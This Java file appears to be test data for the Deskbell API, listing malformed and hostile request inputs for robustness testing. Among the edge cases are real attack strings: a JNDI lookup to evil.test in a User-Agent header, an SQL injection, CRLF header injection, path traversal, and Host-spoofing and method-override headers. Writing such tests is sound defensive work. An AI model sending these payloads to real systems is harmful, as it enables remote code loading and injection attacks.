package dev.deskbell.api;

import java.util.List;
import java.util.stream.Stream;

/** Odd things that requests may have, as they go over the wire. */
final class Oddities {

    private Oddities() {}

    /** In place of a part of a path. */
    static final List<String> SEGMENTS = lines("""
            %00
            %ff
            %
            %zz
            %25
            %2e%2e
            ..
            %2f
            a%2fb
            %5c
            ;a=b
            %3b
            a;b=c
            %0d%0aX-Bad:%201
            %20
            +
            -1
            0
            1e3
            0x1
            99999999999999999999
            null
            undefined
            NaN
            true
            *
            '
            %27%20or%201=1--
            %22
            %ED%A0%80
            %C0%AF
            %E2%80%AE
            %F0%9F%92%A3
            \u00fc
            \u00ff\u00fe
            {id}
            []
            <a>
            ~
            .
            00000000-0000-0000-0000-000000000000
            00000000-0000-0000-0000-00000000000
            %EF%BC%91
            """, "9".repeat(400), "a".repeat(5_000));

    /** In place of what a parameter or a text may be. */
    static final List<String> TEXTS = lines("""
            0
            -1
            1.5
            1e400
            NaN
            99999999999999999999
            -9223372036854775808
            2147483648
            null
            true
            []
            {}
            '
            "
            %00
            %
            %zz
            a%00b
            %ff%fe
            %ED%A0%80
            %E2%80%AE
            %0d%0a
            \u00e4
            *
            ..
            me
            none
            #1
            %2542
            eyJhIjoxfQ
            AAAA
            -created,-created
            %26%7C!%3A*()
            1970-01-01
            9999-99-99
            %F0%9F%92%A3
            """, "a".repeat(4_000), "");

    /** Beside the others, perhaps a second one of its name. */
    static final List<String> HEADERS = lines(
            """
            Range: bytes=0-
            Range: bytes=5-1
            Range: bytes=-99999999999999999999
            Range: bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6
            Range: lines=1
            Content-Range: bytes 0-0/1
            Content-Range: bytes 5-1/3
            Content-Range: bytes */*
            Content-Range: bytes 0-99999999999999999999/1
            Tus-Resumable: 1.0.0
            Tus-Resumable: 9.9
            Upload-Offset: -1
            Upload-Offset: 99999999999999999999
            Upload-Offset: x
            Upload-Length: -1
            Upload-Length: 0
            Upload-Length: 99999999999999999999
            Upload-Metadata: filename
            Upload-Metadata: filename %%%,,, ,
            Upload-Metadata: filename w7w=,filename w7w=
            Upload-Defer-Length: 1
            If-None-Match: *
            If-None-Match: "
            If-Match: W/"x", *
            If-Modified-Since: yesterday
            If-Range: \u00ff
            Accept: application/xml
            Accept: ;;;
            Accept: */*;q=2
            Accept: text/event-stream
            Accept-Language: \u00ff\u00fe
            Accept-Language: de;q=9,*;q=x
            Accept-Encoding: br;q=x, gzip;q=0
            Accept-Charset: utf-99
            Authorization: Bearer
            Authorization: Bearer \u00e4\u00f6
            Authorization: Basic eDp5
            Expect: 200-ok
            Content-Encoding: gzip
            Content-Encoding: x
            Content-Language: \u00ff
            X-Forwarded-For: '
            X-Forwarded-Host: evil.test
            X-Forwarded-Proto: \u00ff
            Forwarded: for="
            X-HTTP-Method-Override: DELETE
            X-Original-URL: /api/session
            Referer: %
            Origin: null
            Sec-Fetch-Site: cross-site
            Last-Event-ID: x
            Last-Event-ID: \u00ff
            Idempotency-Key: \u00ff\u00fe
            Idempotency-Key: a
            Idempotency-Key: a b
            User-Agent: ${jndi:ldap://evil.test/a}
            Cookie: a
            Cookie: =
            Cookie: deskbell="
            Cookie: XSRF-TOKEN=
            Connection: upgrade
            Upgrade: h2c
            Upgrade: websocket
            TE: trailers
            Via: x
            Max-Forwards: -1
            X-Request-Id: \u00ff'
            Date: never
            Host: evil.test
            Range
            : x
            X\u00fc: y
            X: a\u0001b
            """,
            "Authorization: Bearer " + "0".repeat(64),
            "Last-Event-ID: " + "9".repeat(600),
            "User-Agent: " + "u".repeat(3_000));

    /** Content types that no JSON has. */
    static final List<String> TYPES = lines("""
            text/plain
            application/xml
            application/x-www-form-urlencoded
            multipart/form-data
            application/
            /
            ;
            json
            \u00ff/\u00ff
            application/json/x
            text/html; charset="
            application/octet-stream
            application/cbor
            application/x-java-serialized-object
            application/yaml
            """, "multipart/form-data; boundary=" + "b".repeat(300));

    /** Methods that nothing has. */
    static final List<String> METHODS = lines("""
            FOO
            TRACE
            CONNECT
            PROPFIND
            get
            Post
            G\u00fcT
            PURGE
            QUERY
            """, "M".repeat(3_000));

    /** JSON, or nearly, that is no object. */
    static final List<String> NO_OBJECTS = lines("""
            []
            7
            "x"
            {}{}
            {"a":NaN}
            {'a':1}
            {a:1}
            {"a":1,}
            /**/
            {"\\ud800":1}
            """, "\u0000");

    /** As they stand in JSON. */
    static final List<String> JSON_TEXTS = lines("""
            "\\ud83d"
            "\\udca3\\ud83d"
            "\\u0000"
            """, "\"\u0001\"", "\"\t\"");

    /** Those of the block, a line each, and others. */
    private static List<String> lines(String block, String... others) {
        return Stream.concat(block.lines(), Stream.of(others)).toList();
    }
}
